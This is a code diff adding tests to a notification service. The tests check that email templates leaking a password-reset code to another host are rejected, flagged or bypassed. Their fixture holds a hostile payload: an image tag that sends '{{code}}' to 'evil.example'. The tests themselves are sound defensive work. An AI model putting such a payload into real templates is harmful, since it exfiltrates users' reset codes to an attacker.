@@ -3,10 +3,14 @@ import type { ApiClient } from '@japa/api-client'
 import Application from '#app/applications/models/application'
 import NotificationTemplate from '#app/notifications/models/notification_template'
 import NotificationType from '#app/notifications/models/notification_type'
+import TemplateVersion from '#app/notifications/models/template_version'
 import { aKeyOf, serverWith } from '#tests/helpers/application_keys'
 import { recordedFor } from '#tests/helpers/deliveries'
-import { uniqueCode, uniqueEmail } from '#tests/helpers/people'
+import { anApplication, superAdmin, uniqueCode, uniqueEmail } from '#tests/helpers/people'
+import { addressed, anOrganisation, hook, withSigningKey } from '#tests/helpers/provider_hook'
+import { passwordReset as passwordResetMail } from '#tests/helpers/provider_samples'
 import { sameDatabase } from '#tests/helpers/same_database'
+import { aTemplate, aType } from '#tests/helpers/templates'
 import { INTERNAL_KEY, smtp } from '#tests/world/prepare'
 import { startProductionService } from '#tests/world/production_service'
 
@@ -119,5 +123,53 @@ test.group('Types of the system', () => {
     assert.equal(bulk.body().data[0].code, 'SYSTEM_TYPE')
     const read = await server.get('/notifications/templates/auth')
     read.assertStatus(200)
+  })
+})
+
+test.group('Secrets in mails of the system', (group) => {
+  withSigningKey(group)
+
+  const leaking = '<p>Your code is {{code}}</p><img src="https://evil.example/{{code}}">'
+
+  test('even a super admin saves no template that carries them to another host', async ({
+    client,
+    assert,
+  }) => {
+    const { id } = await resetTemplate()
+    const path = `/api/admin/notifications/templates/${id}/locales/en`
+    const bodyTemplate = `<p>Hello</p>\n${leaking}`
+    const saved = await superAdmin(client).put(path, { subjectTemplate: 'Reset', bodyTemplate })
+    saved.assertProblem(400, 'SECRET_EXPOSED', { variable: 'code', line: 2 })
+    await requireUntouched()
+
+    const application = await anApplication()
+    const own = await aTemplate(application, await aType(application))
+    const ordinary = await superAdmin(client).put(
+      `/api/admin/notifications/templates/${own.id}/locales/en`,
+      { subjectTemplate: 'Coupon', bodyTemplate: leaking }
+    )
+    ordinary.assertStatus(200)
+    assert.deepEqual(ordinary.body().data.warnings, ['code'])
+  })
+
+  test('a template that was saved earlier is not used if it carries them away', async ({
+    assert,
+    cleanup,
+  }) => {
+    const { id: organisation, server } = await anOrganisation()
+    const { id: notificationTemplateId } = await resetTemplate()
+    const version = await TemplateVersion.findByOrFail({ notificationTemplateId, locale: 'en' })
+    const { inlinedBody } = version
+    cleanup(async () => {
+      await version.merge({ inlinedBody }).save()
+      await server.stop()
+    })
+    await version.merge({ inlinedBody: leaking }).save()
+    const email = uniqueEmail()
+    const answer = await hook(addressed(passwordResetMail(), organisation, email))
+    assert.equal(answer.templateSource, 'idp')
+    const [mail] = server.mailsTo(email)
+    assert.exists(mail)
+    assert.notInclude(JSON.stringify(mail), 'evil.example')
   })
 })
